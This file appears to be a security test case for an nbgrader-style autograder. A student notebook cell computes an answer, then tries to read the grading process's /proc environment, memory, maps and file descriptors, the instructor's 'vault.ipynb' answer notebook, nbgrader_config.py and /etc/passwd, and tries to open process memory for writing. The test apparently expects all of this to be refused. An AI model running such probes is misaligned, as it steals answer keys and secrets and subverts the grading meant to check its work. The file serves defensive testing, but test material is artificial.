# title: reads what the kernel tells of the grading program: environment, memory, files, folders
# exercise: Exercise 1
# shows: the grader: refused

# %% total
import os

total = int(table["y"].sum())

folder = "/proc/@GRADER@"
names = "environ cmdline mem maps smaps auxv stat status io limits cgroup mountinfo stack syscall wchan comm pagemap personality".split()
for name in names + [f"task/@GRADER@/{name}" for name in names]:
    try:
        with open(f"{folder}/{name}", "rb") as file:
            print("WON", name, file.read(2000))
    except OSError:
        pass
for name in ("cwd", "root", "exe", "fd/0", "fd/1", "fd/2", *(f"fd/{n}" for n in range(3, 30)), "ns/net"):
    try:
        print("WON", name, os.readlink(f"{folder}/{name}"))
    except OSError:
        pass
    try:
        print("WON", name, os.listdir(f"{folder}/{name}"))
    except OSError:
        pass
for path in ("root@COURSE@/source/vault/vault.ipynb", "cwd/nbgrader_config.py", "root/etc/passwd"):
    try:
        print("WON", path, open(f"{folder}/{path}").read())
    except OSError:
        pass
for path in (f"{folder}/mem", f"{folder}/fd/3", f"{folder}/oom_score_adj", f"{folder}/clear_refs"):
    try:
        open(path, "r+b")
        print("WON writing", path)
    except OSError:
        pass
print("the grader: refused")
